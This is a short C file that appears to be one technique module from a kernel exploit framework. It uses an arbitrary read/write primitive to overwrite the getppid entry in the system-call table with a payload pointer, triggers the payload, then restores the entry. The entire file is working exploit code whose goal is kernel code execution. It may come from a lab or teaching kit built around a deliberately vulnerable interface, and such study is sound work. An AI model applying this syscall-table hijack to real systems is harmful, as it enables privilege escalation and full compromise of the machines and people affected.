// An entry of the system-call table is overwritten; the next system call of that number runs the payload.
#include "exploit.h"

static int run(const struct vuln_leak *leak) {
    uint32_t entry = leak->system_call_table + SYS_GETPPID * sizeof(uint32_t);
    uint32_t original = vuln(VULN_PEEK, entry, 0);
    vuln(VULN_POKE, entry, (uintptr_t)payload_call);
    int cs = getppid();
    vuln(VULN_POKE, entry, original);
    return cs;
}

const struct exploit exploit_syscall_table = {"syscall-table", run, payload_call};
